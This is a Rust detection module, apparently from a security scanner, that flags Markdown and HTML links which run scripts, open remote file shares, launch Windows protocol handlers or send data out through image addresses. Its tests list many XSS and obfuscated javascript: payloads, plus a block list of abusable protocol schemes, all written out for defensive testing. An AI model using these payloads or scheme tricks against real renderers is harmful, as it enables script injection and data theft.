//! What does a text send or run once it is rendered?

mod blocks;
mod inline;

use super::html::{self, Scheme, carries_data, is_script};
use super::{decode, script};
use crate::{Budget, Notes, Severity, Unscannable};
use std::collections::HashSet;

/// A label is no longer than that.
const LABEL_BYTES_MAX: usize = 1000;
/// Addresses that start a program of the machine, or open what another machine shares.
const STARTS: [&str; 17] = [
    "search-ms:",
    "search:",
    "ms-msdt:",
    "ms-officecmd:",
    "ms-word:",
    "ms-excel:",
    "ms-powerpoint:",
    "ms-access:",
    "ms-visio:",
    "ms-project:",
    "ms-publisher:",
    "ms-infopath:",
    "ms-appinstaller:",
    "ms-its:",
    "mk:",
    "shell:",
    "hcp:",
];

/// Looks at Markdown and the HTML within.
pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    budget.charge(text.len().max(1) as u64)?;
    let prose = blocks::without_code(text);
    links(&prose.text, notes, budget)?;
    diagrams(&prose.diagrams, notes);
    html::check(&prose.text, notes, budget)
}

/// The text without its code.
pub(crate) fn prose(text: &str) -> String {
    blocks::without_code(text).text
}

/// A diagram is drawn from a block of code, links and all.
fn diagrams(bodies: &[String], notes: &mut Notes) {
    for (number, body) in bodies.iter().enumerate() {
        if body.to_ascii_lowercase().contains("javascript:") {
            notes.find(
                "markdown.script_address",
                Severity::Suspicious,
                format!("diagram {}", number + 1),
                "a diagram's link runs a script",
            );
        }
    }
}

fn links(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    let brackets = brackets(text);
    for (close, open) in brackets.iter().take(100_000) {
        if text[close + 1..].starts_with('(') {
            let target = inline_address(decode::head(&text[close + 2..], 1024));
            let is_picture = open.is_some_and(|open| text[..open].ends_with('!'));
            address(target, is_picture, *close, notes, budget)?;
        }
    }
    let pictures = picture_labels(text, &brackets);
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        // Quotes and lists hold the targets of links as well.
        let held = |c: char| c.is_whitespace() || c.is_ascii_digit() || "> -+*.)".contains(c);
        let trimmed = line.trim_start_matches(held);
        if trimmed.starts_with('[')
            && let Some((label, target)) = trimmed.split_once("]:")
        {
            let picture = pictures.contains(&label[1..].trim().to_lowercase());
            // The address may stand on the next line.
            let next = text[at + line.len()..].split('\n').next().unwrap_or("");
            let target = if target.trim().is_empty() {
                next.trim_start_matches(held)
            } else {
                target
            };
            address(inline_address(target.trim()), picture, at, notes, budget)?;
        }
        at += line.len();
    }
    for (at, _) in text.match_indices('<').take(100_000) {
        let inner = decode::head(&text[at + 1..], 256)
            .split(['>', '\n'])
            .next()
            .unwrap_or("");
        if inner.len() < 4096 && matches!(is_script(inner).0, Scheme::Script { .. }) {
            address(inner, false, at, notes, budget)?;
        }
    }
    Ok(())
}

/// Where brackets close, and where each opened. None goes over an empty line.
fn brackets(text: &str) -> Vec<(usize, Option<usize>)> {
    let (mut found, mut open) = (Vec::new(), Vec::new());
    let mut last = b'\n';
    let mut is_escaped = false;
    for (at, byte) in text.bytes().enumerate() {
        match byte {
            _ if is_escaped => is_escaped = false,
            b'\\' => is_escaped = true,
            b'[' => open.push(at),
            b']' => found.push((at, open.pop())),
            b'\n' if last == b'\n' => open.clear(),
            _ => {}
        }
        last = byte;
    }
    found
}

/// The labels that pictures refer to.
fn picture_labels(text: &str, brackets: &[(usize, Option<usize>)]) -> HashSet<String> {
    let pictures = brackets.iter().take(100_000).filter_map(|(close, open)| {
        let open = open.filter(|open| text[..*open].ends_with('!'))?;
        let label = text[close + 1..].strip_prefix('[');
        let label = label.map(|rest| decode::head(rest, LABEL_BYTES_MAX));
        let label = label.and_then(|rest| rest.split_once(']'));
        let label = label.map_or("", |(label, _)| label);
        let label = if label.is_empty() {
            &text[open + 1..*close]
        } else {
            label
        };
        (label.len() <= LABEL_BYTES_MAX).then(|| label.trim().to_lowercase())
    });
    pictures.collect()
}

fn inline_address(rest: &str) -> &str {
    let rest = rest.trim_start();
    if let Some(inner) = rest.strip_prefix('<') {
        return inner.split('>').next().unwrap_or("");
    }
    // Some readers allow white space within a script's address.
    let line = rest.split('\n').next().unwrap_or("");
    let mut open = 0_usize;
    let end = line.find(|c: char| {
        match c {
            '(' => open += 1,
            ')' if open > 0 => open -= 1,
            ')' => return true,
            _ => {}
        }
        c.is_whitespace()
    });
    let word = &line[..end.unwrap_or(line.len())];
    if matches!(is_script(decode::head(line, 64)).0, Scheme::Script { .. }) {
        line
    } else {
        word
    }
}

fn address(
    target: &str,
    picture: bool,
    at: usize,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    let place = format!("offset {at}");
    let unescaped = target.replace('\\', "");
    let (scheme, head) = is_script(&unescaped);
    match scheme {
        Scheme::Script { .. } => notes.find(
            "markdown.script_address",
            Severity::Suspicious,
            place,
            "a link runs a script",
        ),
        Scheme::Data
            if !head[5..].to_ascii_lowercase().starts_with("image/")
                || head.to_ascii_lowercase().starts_with("data:image/svg") =>
        {
            let body = head.split_once(',').map_or("", |(_, body)| body);
            let plain = decode::percent(body.as_bytes());
            budget.unpack(plain.len().max(1) as u64)?;
            notes.part(&*place, None, None, decode::base64(&plain));
            notes.find(
                "markdown.data_address",
                Severity::Suspicious,
                place,
                "a link holds a page of its own",
            );
        }
        Scheme::Other if is_share(&head) || is_share(target) => notes.find(
            "markdown.share",
            Severity::Suspicious,
            place,
            "a link opens a file of another machine",
        ),
        Scheme::Other if starts_program(&head) => notes.find(
            "markdown.program_address",
            Severity::Suspicious,
            place,
            "a link starts a program of the machine",
        ),
        Scheme::Other if picture && script::external(&head) => {
            if carries_data(&head) {
                notes.find(
                    "markdown.exfiltration",
                    Severity::Suspicious,
                    place,
                    "a picture's address carries data to another host",
                );
            } else {
                notes.find(
                    "markdown.external",
                    Severity::Info,
                    place,
                    "a picture is loaded from another host",
                );
            }
        }
        _ => {}
    }
    Ok(())
}

/// `file://host/share`, `\\\\host\\share`: the machine is told who is logged on.
fn is_share(address: &str) -> bool {
    let lower = decode::head(address, 16).to_ascii_lowercase();
    lower.starts_with("\\\\") || lower.starts_with("file://") && !lower.starts_with("file:///")
}

/// Whether an address begins so.
pub(super) fn starts_program(address: &str) -> bool {
    let lower = decode::head(address, 32).to_ascii_lowercase();
    STARTS.iter().any(|scheme| lower.starts_with(scheme))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Limits;

    fn worst(text: &str) -> Severity {
        let mut notes = Notes::default();
        check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
        notes.worst().unwrap_or(Severity::Info)
    }

    #[test]
    fn prose_and_code_are_clean() {
        for text in [
            "# Title\n\nSee [docs](https://a.invalid/x?y=1) and ![b](https://img.invalid/badge.svg?style=flat).",
            "```html\n<script>alert(1)</script>\n[x](javascript:alert(1))\n```\n",
            "Use `<img src=x onerror=alert(1)>` or ``[x](javascript:`y`)``.",
            "~~~\n```\n<script>\n~~~\n",
            "[![b](https://a.invalid/b.svg?x=1)](https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG)",
            "A table | with <b>bold</b><br>\n",
            "- do\n\n    ```html\n    <script>alert(1)</script>\n    ```\n\n- done",
            "1. do\n\n   ```html\n   <script>alert(1)\n\n   `</script>\n   ```\n2. `<script>`",
            "> ```html\n> <script>alert(1)</script>\n> ```\n",
            "| a | b |\n|---|---|\n| -1 | `<div onclick=\"x()\">` |\n",
            "Wraps `a\nb` and `<script>alert(1)</script>`.",
            "\\\\`<script>alert(1)</script>`",
            "![c](https://mermaid.ink/img/eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG)",
        ] {
            assert_eq!(worst(text), Severity::Info, "{text}");
        }
    }

    #[test]
    fn what_runs_or_sends_is_suspicious() {
        for text in [
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](java&Tab;script:alert(1))",
            "[a]( <javascript:alert(1)> )",
            "[a]: javascript:alert(1)\n\n[a]",
            "<javascript:alert(1)>",
            "[a](&#x6A;avascript:alert(1))",
            "[a](vbscript:x)",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "hello <img src=x onerror=alert(1)>",
            "![ok](https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG)",
            "![a][r]\n\n[r]: https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG\n",
            "```\ncode\n```\n<svg onload=alert(1)>",
            "`a\n\n<img src=x onerror=alert(1)>`",
            "    ```\n<img src=x onerror=alert(1)>\n",
            "\\`<img src=x onerror=alert(1)>\\`",
            "`a\n# h\n`b` <img src=x onerror=alert(1)> `c`",
            "`a\n***\n`b` <img src=x onerror=alert(1)> `c`",
            "`a\nh\n---\n`b` <img src=x onerror=alert(1)> `c`",
            "`a\n- `b` <img src=x onerror=alert(1)> `c`",
            "`a\n> `b` <img src=x onerror=alert(1)> `c`",
            "`a\n \t\n`b` <img src=x onerror=alert(1)> `c`",
            "`a\n<div>\n`b` <img src=x onerror=alert(1)> `c`",
            "`a\n```\n```\n`b` <img src=x onerror=alert(1)> `c`",
            "    `\n`b` <img src=x onerror=alert(1)> `c`",
            "- a\n  ```\n<img src=x onerror=alert(1)>",
            "1. a\n   ```\n<img src=x onerror=alert(1)>",
            "> ```\n<img src=x onerror=alert(1)>",
            "a\n2. b\n    ```\n    <img src=x onerror=alert(1)>",
            "<!--\n```\n-->\n<img src=x onerror=alert(1)>",
            "<div>\n```\n<img src=x onerror=alert(1)>\n</div>",
            "a\r```\rx\r```\r<img src=x onerror=alert(1)>",
            "<http://a.b/`><img src=x onerror=alert(1)><http://a.b/`>",
            "<a title=\"`\"><img src=x onerror=alert(1)><a title=\"`\">",
            "a <!-- ` --> <img src=x onerror=alert(1)> `",
            "| `a | <img src=x onerror=alert(1)> | b` |\n|--|--|--|\n",
            "> [a]: javascript:alert(1)",
            "- [a]: javascript:alert(1)",
            "> [a]:\n> javascript:alert(1)",
            "![a][r]\n\n> [r]: https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG\n",
            "[a](search-ms:query=x&crumb=location:y)",
            "[a](ms-word:ofe|u|https://a.invalid/x.docm)",
            "```` Mermaid\nclick A \"javascript:alert(1)\"\n````",
        ] {
            assert_eq!(worst(text), Severity::Suspicious, "{text}");
        }
        let words = "word ".repeat(1000);
        let query = "eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG";
        let picture = format!("![{words}](https://a.invalid/p?q={query})");
        assert_eq!(worst(&picture), Severity::Suspicious);
    }
}
